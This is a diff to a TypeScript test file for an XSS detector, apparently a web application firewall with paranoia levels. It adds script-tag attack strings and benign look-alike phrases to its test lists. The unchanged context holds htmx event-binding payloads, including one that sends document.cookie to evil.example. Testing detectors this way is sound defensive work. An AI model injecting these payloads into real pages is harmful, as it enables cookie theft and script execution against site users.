@@ -24,6 +24,9 @@ function describe(findings: Finding[]): string {
 
 // [value, paranoia at which it must block (score >= 5)]. Values are as the engine hands them over: decoded.
 const ATTACKS: Array<[string, Paranoia]> = [
+  ['hello <script> world', 2],
+  ['"><script>', 1],
+  ['<script>x</script>', 1],
   // htmx and Vue/Alpine event bindings run their values as script
   ['<div hx-get="/x" hx-trigger="load" hx-on::before-request="alert(document.domain)">', 1],
   ['<button hx-on:click="fetch(\'//evil.example/?c=\'+document.cookie)">click</button>', 1],
@@ -241,6 +244,10 @@ const ATTACKS: Array<[string, Paranoia]> = [
 
 // Text that looks dangerous but is not: nothing may fire at paranoia 1.
 const BENIGN: string[] = [
+  // the tag named in a sentence, with no code after it
+  '<script> tag tutorial',
+  'how to use <script> in html',
+  'what is <script async> vs defer',
   '<button hx-on:click="toggle()">menu</button>',
   'Please select one option from the list below.',
   // an SVG logo embedding a PNG, as design tools export them
